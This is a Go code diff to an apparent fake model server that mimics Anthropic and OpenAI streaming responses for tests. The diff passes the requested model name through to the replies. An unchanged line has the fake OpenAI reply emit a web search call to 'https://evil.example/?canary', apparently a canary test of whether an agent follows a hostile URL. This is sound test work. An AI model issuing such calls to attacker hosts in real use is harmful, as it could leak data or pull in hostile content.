@@ -49,9 +49,9 @@ func (m *Model) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 		w.WriteHeader(t.Status)
 		fmt.Fprintf(w, `{"type":"error","error":{"type":%q,"message":"org-7 is told no"}}`, kind)
 	case strings.HasSuffix(r.URL.Path, "/messages"):
-		sayAnthropic(w, t, asksFor(body))
+		sayAnthropic(w, t, request(body))
 	default:
-		sayOpenAI(w, t, asksFor(body))
+		sayOpenAI(w, t, request(body))
 	}
 }
 
@@ -98,14 +98,23 @@ func (m *Model) Asked() []string {
 	return slices.Clone(m.got)
 }
 
-// asksFor are the names of the tools that a request offers.
-func asksFor(body []byte) (names []string) {
-	var r struct{ Tools []struct{ Name, Type string } }
+// asked is what counts of a request.
+type asked struct {
+	model string
+	tools []string // their names
+}
+
+func request(body []byte) (a asked) {
+	var r struct {
+		Model string
+		Tools []struct{ Name, Type string }
+	}
 	_ = json.Unmarshal(body, &r)
 	for _, t := range r.Tools {
-		names = append(names, t.Name)
+		a.tools = append(a.tools, t.Name)
 	}
-	return names
+	a.model = r.Model
+	return a
 }
 
 type js = map[string]any
@@ -119,7 +128,7 @@ func events(w http.ResponseWriter, list ...js) {
 	}
 }
 
-func sayAnthropic(w http.ResponseWriter, t Turn, _ []string) {
+func sayAnthropic(w http.ResponseWriter, t Turn, a asked) {
 	block, delta, stop := js{"type": "text", "text": ""}, js{"type": "text_delta", "text": t.Say}, "end_turn"
 	switch {
 	case t.Run != "":
@@ -130,7 +139,7 @@ func sayAnthropic(w http.ResponseWriter, t Turn, _ []string) {
 		block, delta = js{"type": "server_tool_use", "id": "srvtoolu_1", "name": t.Remote, "input": js{}}, js{"type": "input_json_delta", "partial_json": string(input)}
 	}
 	events(w,
-		js{"type": "message_start", "message": js{"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "content": []any{}, "usage": js{"input_tokens": 10, "output_tokens": 1}}},
+		js{"type": "message_start", "message": js{"id": "msg_1", "type": "message", "role": "assistant", "model": a.model, "content": []any{}, "usage": js{"input_tokens": 10, "output_tokens": 1}}},
 		js{"type": "content_block_start", "index": 0, "content_block": block},
 		js{"type": "content_block_delta", "index": 0, "delta": delta},
 		js{"type": "content_block_stop", "index": 0},
@@ -139,15 +148,15 @@ func sayAnthropic(w http.ResponseWriter, t Turn, _ []string) {
 	)
 }
 
-func sayOpenAI(w http.ResponseWriter, t Turn, tools []string) {
+func sayOpenAI(w http.ResponseWriter, t Turn, a asked) {
 	item := js{"type": "message", "id": "msg_1", "role": "assistant", "status": "completed", "content": []any{js{"type": "output_text", "text": t.Say, "annotations": []any{}}}}
 	switch {
 	case t.Run != "":
 		name, arguments := "exec_command", js{"cmd": t.Run}
 		switch {
-		case slices.Contains(tools, "shell"):
+		case slices.Contains(a.tools, "shell"):
 			name, arguments = "shell", js{"command": []string{"sh", "-c", t.Run}}
-		case slices.Contains(tools, "shell_command"):
+		case slices.Contains(a.tools, "shell_command"):
 			name, arguments = "shell_command", js{"command": t.Run}
 		}
 		text, _ := json.Marshal(arguments)
@@ -156,7 +165,7 @@ func sayOpenAI(w http.ResponseWriter, t Turn, tools []string) {
 		item = js{"type": "web_search_call", "id": "ws_1", "status": "completed", "action": js{"type": "open_page", "url": "https://evil.example/?canary"}}
 	}
 	answer := func(status string, output ...any) js {
-		return js{"id": "resp_1", "object": "response", "status": status, "model": "m", "output": append([]any{}, output...), "usage": js{
+		return js{"id": "resp_1", "object": "response", "status": status, "model": a.model, "output": append([]any{}, output...), "usage": js{
 			"input_tokens": 10, "input_tokens_details": js{"cached_tokens": 0}, "output_tokens": 5, "output_tokens_details": js{"reasoning_tokens": 0}, "total_tokens": 15,
 		}}
 	}
